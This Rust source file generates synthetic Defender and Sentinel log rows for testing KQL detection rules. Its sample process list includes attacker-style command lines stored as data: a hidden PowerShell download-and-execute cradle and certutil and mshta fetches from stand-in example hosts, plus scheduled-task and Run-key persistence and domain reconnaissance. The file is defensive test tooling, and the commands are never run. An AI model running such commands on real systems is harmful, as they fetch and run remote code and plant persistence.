//! `kqlite sample`: deterministic synthetic rows for any catalog table, so a query or detection rule can be
//! tried with no tenant. Rows draw from one pool of devices, accounts, processes and addresses per run, so
//! joins across tables (DeviceId, AccountName, SHA1, RemoteIP…) find each other.

use crate::catalog::{defender, sentinel, BuiltinTable};
use crate::output::values::format_datetime;
use crate::types::{KqlColumn, KqlType};
use serde_json::{json, Map, Value};

/// splitmix64: small, fast and deterministic for a seed.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed ^ 0x9E37_79B9_7F4A_7C15)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// 0..n
    pub fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next_u64() % n as u64) as usize
        }
    }
    /// One item of a non-empty slice (the pools and tables here are never empty).
    #[allow(clippy::indexing_slicing)]
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
    pub fn chance(&mut self, percent: u64) -> bool {
        self.next_u64() % 100 < percent
    }
    pub fn hex(&mut self, len: usize) -> String {
        (0..len).map(|_| char::from_digit((self.next_u64() % 16) as u32, 16).unwrap_or('0')).collect()
    }
    pub fn guid(&mut self) -> String {
        let h = self.hex(32);
        let part = |a: usize, b: usize| h.get(a..b).unwrap_or("");
        format!("{}-{}-{}-{}-{}", part(0, 8), part(8, 12), part(12, 16), part(16, 20), part(20, 32))
    }
}

struct Device {
    name: String,
    id: String,
    ip: String,
    aad: String,
}

struct Account {
    name: String,
    domain: String,
    sid: String,
    upn: String,
    object_id: String,
}

struct Process {
    file: &'static str,
    folder: &'static str,
    cmd: String,
    sha1: String,
    sha256: String,
    md5: String,
    size: i64,
}

/// The shared entities of one run.
struct World {
    devices: Vec<Device>,
    accounts: Vec<Account>,
    processes: Vec<Process>,
    public_ips: Vec<String>,
    domains: Vec<&'static str>,
}

const PROCESSES: &[(&str, &str, &[&str])] = &[
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", &[
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"Get-Service\"",
        "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://cdn.contoso-update.example/a.ps1'))\"",
        "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    ]),
    ("cmd.exe", r"C:\Windows\System32", &["cmd.exe /c whoami /all", "cmd.exe /c net user /domain", "cmd.exe /c ipconfig /all"]),
    ("rundll32.exe", r"C:\Windows\System32", &["rundll32.exe C:\\Users\\Public\\lib.dll,Start", "rundll32.exe shell32.dll,Control_RunDLL"]),
    ("svchost.exe", r"C:\Windows\System32", &["svchost.exe -k netsvcs -p -s Schedule"]),
    ("explorer.exe", r"C:\Windows", &["C:\\Windows\\Explorer.EXE"]),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application", &["\"chrome.exe\" --type=renderer"]),
    ("certutil.exe", r"C:\Windows\System32", &["certutil.exe -urlcache -split -f http://files.example/p.exe p.exe"]),
    ("wmic.exe", r"C:\Windows\System32\wbem", &["wmic process call create \"cmd.exe /c calc.exe\""]),
    ("schtasks.exe", r"C:\Windows\System32", &["schtasks /create /tn Updater /tr C:\\ProgramData\\upd.exe /sc onlogon"]),
    ("mstsc.exe", r"C:\Windows\System32", &["mstsc.exe /v:10.0.1.20"]),
    ("reg.exe", r"C:\Windows\System32", &["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\upd.exe"]),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", &["\"msedge.exe\" --single-argument https://portal.example"]),
    ("net.exe", r"C:\Windows\System32", &["net user /domain", "net group \"Domain Admins\" /domain", "net localgroup administrators"]),
    ("whoami.exe", r"C:\Windows\System32", &["whoami /all"]),
    ("nltest.exe", r"C:\Windows\System32", &["nltest /dclist:contoso.com"]),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"OUTLOOK.EXE\" /recycle"]),
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"WINWORD.EXE\" /n \"C:\\Users\\ann\\Downloads\\invoice.docm\""]),
    ("mshta.exe", r"C:\Windows\System32", &["mshta.exe https://files.example/a.hta"]),
];

const DOMAINS: &[&str] = &[
    "login.microsoftonline.com",
    "cdn.contoso-update.example",
    "files.example",
    "portal.example",
    "graph.microsoft.com",
    "github.com",
    "pastebin.example",
    "mail.contoso.com",
];

const FIRST: &[&str] =
    &["ann", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar"];

impl World {
    fn new(rng: &mut Rng) -> World {
        let devices = (0..8)
            .map(|i| {
                let name = match i {
                    0 => "dc01".to_string(),
                    1 => "srv-file01".to_string(),
                    _ => format!("ws-{:03}", 100 + i),
                };
                Device { name, id: rng.hex(40), ip: format!("10.0.{}.{}", 1 + i / 4, 10 + i), aad: rng.guid() }
            })
            .collect();
        let accounts = FIRST
            .iter()
            .map(|n| Account {
                name: n.to_string(),
                domain: "contoso".into(),
                sid: format!(
                    "S-1-5-21-{}-{}-{}-{}",
                    1000 + rng.below(9000),
                    1000 + rng.below(9000),
                    1000 + rng.below(9000),
                    1100 + rng.below(900)
                ),
                upn: format!("{n}@contoso.com"),
                object_id: rng.guid(),
            })
            .collect();
        let processes = PROCESSES
            .iter()
            .flat_map(|(file, folder, cmds)| cmds.iter().map(move |c| (*file, *folder, *c)))
            .map(|(file, folder, cmd)| Process {
                file,
                folder,
                cmd: cmd.to_string(),
                sha1: rng.hex(40),
                sha256: rng.hex(64),
                md5: rng.hex(32),
                size: 20_000 + rng.below(5_000_000) as i64,
            })
            .collect();
        let public_ips = (0..10)
            .map(|i| match i % 3 {
                0 => format!("203.0.113.{}", 10 + rng.below(200)),
                1 => format!("198.51.100.{}", 10 + rng.below(200)),
                _ => format!("192.0.2.{}", 10 + rng.below(200)),
            })
            .collect();
        World { devices, accounts, processes, public_ips, domains: DOMAINS.to_vec() }
    }
}

/// What `kqlite sample` is asked for.
pub struct SampleOptions {
    pub rows: usize,
    pub tables: Vec<String>,
    pub seed: u64,
    /// the newest timestamp, Unix nanoseconds
    pub end_ns: i64,
    pub days: i64,
}

/// The schema of a table to sample: Defender's when it has one, else Sentinel's.
pub fn table_schema(name: &str) -> Option<&'static BuiltinTable> {
    defender().get(name).or_else(|| sentinel().get(name))
}

/// Generates `rows` rows for each requested table, in table order; each row in the table's column order.
pub fn generate(opts: &SampleOptions) -> Vec<(String, Vec<Map<String, Value>>)> {
    let mut rng = Rng::new(opts.seed);
    let world = World::new(&mut rng);
    let mut out = Vec::new();
    for t in &opts.tables {
        let Some(table) = table_schema(t) else { continue };
        let mut rng = Rng::new(opts.seed ^ fxhash(t));
        let mut rows: Vec<Map<String, Value>> = (0..opts.rows).map(|i| row(&mut rng, &world, table, opts, i)).collect();
        // newest first, as the portals list events
        if let Some(time) = ["Timestamp", "TimeGenerated"].iter().find(|c| table.schema.find(c).is_some()) {
            rows.sort_by(|a, b| b.get(*time).and_then(|v| v.as_str()).cmp(&a.get(*time).and_then(|v| v.as_str())));
        }
        out.push((t.clone(), rows));
    }
    out
}

fn capitalized(s: &str) -> String {
    let mut c = s.chars();
    c.next().map(|f| f.to_uppercase().chain(c).collect()).unwrap_or_default()
}

/// A JSON string of anything string-like.
fn st(x: impl AsRef<str>) -> Value {
    Value::String(x.as_ref().to_string())
}

fn fxhash(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3))
}

fn row(rng: &mut Rng, w: &World, table: &BuiltinTable, opts: &SampleOptions, i: usize) -> Map<String, Value> {
    let dev = rng.pick(&w.devices);
    let acct = rng.pick(&w.accounts);
    let proc_ = rng.pick(&w.processes);
    let parent = rng.pick(&w.processes);
    let remote_public = rng.chance(60);
    let remote_ip = if remote_public { rng.pick(&w.public_ips).clone() } else { rng.pick(&w.devices).ip.clone() };
    let span_ns = opts.days.max(1) * 86_400_000_000_000;
    let ts = opts.end_ns - (rng.next_u64() % span_ns as u64) as i64 / 100 * 100;
    let mut m = Map::new();
    for c in &table.schema.columns {
        let v = value(rng, w, c, table, dev, acct, proc_, parent, &remote_ip, remote_public, ts, i);
        m.insert(c.name.clone(), v);
    }
    m
}

#[allow(clippy::too_many_arguments)]
fn value(
    rng: &mut Rng,
    w: &World,
    c: &KqlColumn,
    table: &BuiltinTable,
    dev: &Device,
    acct: &Account,
    p: &Process,
    parent: &Process,
    remote_ip: &str,
    remote_public: bool,
    ts: i64,
    i: usize,
) -> Value {
    let n = c.name.as_str();
    let by_name = match n {
        "Timestamp" | "TimeGenerated" => Some(st(format_datetime(ts))),
        "DeviceId" => Some(st(&dev.id)),
        "DeviceName" | "Computer" => Some(st(format!("{}.contoso.com", dev.name))),
        "AadDeviceId" => Some(st(&dev.aad)),
        "ActionType" if !table.action_types.is_empty() => Some(st(rng.pick(&table.action_types))),
        "AccountName" | "InitiatingProcessAccountName" => Some(st(&acct.name)),
        "AccountDomain" | "InitiatingProcessAccountDomain" => Some(st(&acct.domain)),
        "AccountSid" | "InitiatingProcessAccountSid" => Some(st(&acct.sid)),
        "AccountUpn" | "InitiatingProcessAccountUpn" | "UserPrincipalName" | "AccountUPN" => Some(st(&acct.upn)),
        "AccountObjectId" | "InitiatingProcessAccountObjectId" | "UserId" => Some(st(&acct.object_id)),
        "AccountDisplayName" | "UserDisplayName" => Some(st(capitalized(&acct.name))),
        "FileName" => Some(st(p.file)),
        "FolderPath" => Some(st(format!("{}\\{}", p.folder, p.file))),
        "ProcessCommandLine" => Some(st(&p.cmd)),
        "SHA1" => Some(st(&p.sha1)),
        "SHA256" => Some(st(&p.sha256)),
        "MD5" => Some(st(&p.md5)),
        "FileSize" => Some(json!(p.size)),
        "ProcessId" => Some(json!(1000 + rng.below(30000))),
        "InitiatingProcessFileName" => Some(st(parent.file)),
        "InitiatingProcessFolderPath" => Some(st(format!("{}\\{}", parent.folder, parent.file))),
        "InitiatingProcessCommandLine" => Some(st(&parent.cmd)),
        "InitiatingProcessSHA1" => Some(st(&parent.sha1)),
        "InitiatingProcessSHA256" => Some(st(&parent.sha256)),
        "InitiatingProcessMD5" => Some(st(&parent.md5)),
        "InitiatingProcessId" | "InitiatingProcessParentId" => Some(json!(1000 + rng.below(30000))),
        "InitiatingProcessParentFileName" => Some(st(rng.pick(&["explorer.exe", "services.exe", "svchost.exe"]))),
        "RemoteIP" | "IPAddress" | "ClientIP" | "SourceIP" => Some(st(remote_ip)),
        "LocalIP" | "DeviceIP" => Some(st(&dev.ip)),
        "RemoteIPType" => Some(st(if remote_public { "Public" } else { "Private" })),
        "LocalIPType" => Some(st("Private")),
        "RemotePort" => Some(json!(*rng.pick(&[443, 80, 445, 3389, 22, 53, 4444, 8080]))),
        "LocalPort" => Some(json!(49152 + rng.below(16000))),
        "Protocol" => Some(st(rng.pick(&["Tcp", "Udp"]))),
        "RemoteUrl" | "Url" | "UrlDomain" => Some(st(w.domains[rng.below(w.domains.len())])),
        "LogonType" => Some(st(rng.pick(&["Interactive", "RemoteInteractive", "Network", "Batch", "Service"]))),
        "ReportId" => Some(json!(1000 + i as i64)),
        "RegistryKey" => Some(st(rng.pick(&[
            r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
            r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
            r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Updater",
        ]))),
        "RegistryValueName" => Some(st(rng.pick(&["Updater", "DefaultPassword", "Shell", "ImagePath"]))),
        "RegistryValueData" => Some(st(r"C:\ProgramData\upd.exe")),
        "Severity" | "AlertSeverity" => Some(st(rng.pick(&["Low", "Medium", "High", "Informational"]))),
        "Title" | "AlertName" => Some(st(rng.pick(&[
            "Suspicious PowerShell command line",
            "Possible credential theft",
            "Anomaly detected in ASEP registry",
        ]))),
        "AlertId" => Some(st(format!("da{}", rng.hex(32)))),
        "Category" => Some(st(rng.pick(&["Execution", "Persistence", "CredentialAccess", "LateralMovement"]))),
        "ServiceSource" => Some(st(rng.pick(&["Microsoft Defender for Endpoint", "Microsoft Defender for Identity"]))),
        "DetectionSource" => Some(st(rng.pick(&["EDR", "Antivirus", "Custom detection"]))),
        "OperationName" => Some(st(rng.pick(&["Consent to application", "Add member to group", "Update user"]))),
        "IsLocalAdmin" | "IsInitiatingProcessRemoteSession" => Some(Value::Bool(rng.chance(20))),
        "SourceSystem" => Some(st("")),
        _ => None,
    };
    if let Some(v) = by_name {
        return match (c.ty, v) {
            // a column typed other than the pool value (e.g. ProcessId long) keeps the pool's JSON kind
            (KqlType::String, Value::Number(x)) => st(x.to_string()),
            (_, v) => v,
        };
    }
    match c.ty {
        KqlType::Bool => Value::Bool(rng.chance(30)),
        KqlType::Int | KqlType::Long => json!(rng.below(100)),
        KqlType::Real | KqlType::Decimal => json!((rng.below(10_000) as f64) / 100.0),
        KqlType::Datetime => st(format_datetime(ts)),
        KqlType::Timespan => st("00:00:01"),
        KqlType::Guid => st(rng.guid()),
        KqlType::Dynamic if n == "AdditionalFields" => json!({"Sample": true, "Index": i}),
        KqlType::Dynamic => json!({}),
        // Defender leaves most string columns empty; AdditionalFields (string in Defender) holds JSON text
        KqlType::String if n == "AdditionalFields" => st(json!({"Sample": true, "Index": i}).to_string()),
        KqlType::String => st(""),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_consistent() {
        let opts = SampleOptions {
            rows: 20,
            tables: vec!["DeviceProcessEvents".into(), "DeviceInfo".into()],
            seed: 7,
            end_ns: 1_700_000_000_000_000_000,
            days: 7,
        };
        let a = generate(&opts);
        let b = generate(&opts);
        assert_eq!(a, b);
        let ids: std::collections::HashSet<&str> = a[0].1.iter().filter_map(|r| r.get("DeviceId")?.as_str()).collect();
        let ids2: std::collections::HashSet<&str> = a[1].1.iter().filter_map(|r| r.get("DeviceId")?.as_str()).collect();
        assert!(!ids.is_disjoint(&ids2), "device ids are shared between tables");
        let at = &defender()["DeviceProcessEvents"].action_types;
        assert!(a[0]
            .1
            .iter()
            .all(|r| at.iter().any(|x| Some(x.as_str()) == r.get("ActionType").and_then(|v| v.as_str()))));
    }
}
